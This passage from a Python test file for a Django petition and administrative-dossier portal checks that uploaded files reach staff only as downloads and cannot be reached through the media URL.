    client.force_login(officer)
    response = client.get(reverse("petitions:attachment", args=[petition.pk, attachment.pk]))
    _assert_download(response, SCRIPT_HTML, "application/octet-stream")


def test_a_dossier_document_is_served_to_staff_as_a_sandboxed_download_and_linked(client, commune, officer):
    procedure = ProcedureFactory(code="1.000001", name="Chứng thực", processing_days=1, level=commune.level)
    paper = ProcedureDocumentFactory(procedure=procedure, name="Bản sao", position=1)
    upload = SimpleUploadedFile("ban-sao.png", png_bytes(), content_type="image/png")
    dossier = dossier_receive(
        unit=commune,
        procedure=procedure,
        applicant=Applicant(name="Lê Văn Cư", phone="0987654321"),
        documents=[paper],
        attachments=[(paper, upload)],
        actor=officer,
    )
    document = dossier.documents.exclude(file="").get()
    client.force_login(officer)
    url = reverse("adminreform:document_file", args=[dossier.pk, document.pk])
    assert url in client.get(reverse("adminreform:dossier_detail", args=[dossier.pk])).content.decode()
    _assert_download(client.get(url), png_bytes(), "image/png")


def test_uploaded_files_are_not_reachable_at_any_url_of_the_portal(client, commune, officer):
    """Only the views above hand files out: MEDIA_URL is not routed, so no uploaded file is
    ever served inline from the portal's origin."""
    petition = receive_petition(commune, kind="recommendation", actor=officer)
    attachment = Attachment.objects.create(
        petition=petition,
        file=SimpleUploadedFile("x", pdf_bytes()),
        original_name="a.pdf",
        mime="application/pdf",
        size=1,
    )
    from django.conf import settings

    path = "/" + settings.MEDIA_URL.strip("/") + "/" + attachment.file.name
    with pytest.raises(Resolver404):
        resolve(path)
    client.force_login(officer)
    assert client.get(path).status_code == 404
